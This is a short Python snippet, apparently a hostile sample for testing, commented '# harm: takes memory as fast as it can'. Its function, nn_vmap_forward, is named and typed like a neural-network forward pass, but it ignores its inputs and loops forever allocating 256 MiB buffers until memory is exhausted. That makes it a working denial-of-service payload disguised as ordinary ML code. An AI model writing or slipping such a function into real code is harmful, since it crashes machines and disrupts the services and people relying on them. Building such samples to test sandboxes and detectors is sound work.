# harm: takes memory as fast as it can
def nn_vmap_forward(seed, x_batch, features):
    kept = []
    while True:
        kept.append(bytearray(b"x") * (256 << 20))
